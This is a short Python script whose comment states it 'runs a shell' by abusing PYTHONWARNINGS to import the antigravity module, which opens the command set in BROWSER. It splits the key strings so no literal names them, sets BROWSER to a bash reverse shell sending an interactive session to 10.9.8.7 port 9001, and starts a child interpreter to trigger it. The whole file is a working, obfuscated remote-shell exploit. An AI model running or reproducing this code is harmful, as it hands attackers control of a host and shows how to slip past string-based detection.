# Runs a shell through PYTHONWARNINGS built from parts: the filter's fields are
# joined with ":" so no literal names it, its category is antigravity's, and the
# child's environment copy carries BROWSER=<a shell command line>.
import os
import subprocess
import sys

FIELDS = ["ignore", "", "anti" + "gravity.Deprecation", "", "0"]


def child_env():
    env = os.environ.copy()
    env["PYTHON" + "WARNINGS"] = ":".join(FIELDS)
    env["BROWSER"] = "bash -c 'bash -i >& /dev/tcp/10.9.8.7/9001 0>&1' %s"
    return env


subprocess.run([sys.executable, "-c", "import json"], env=child_env())
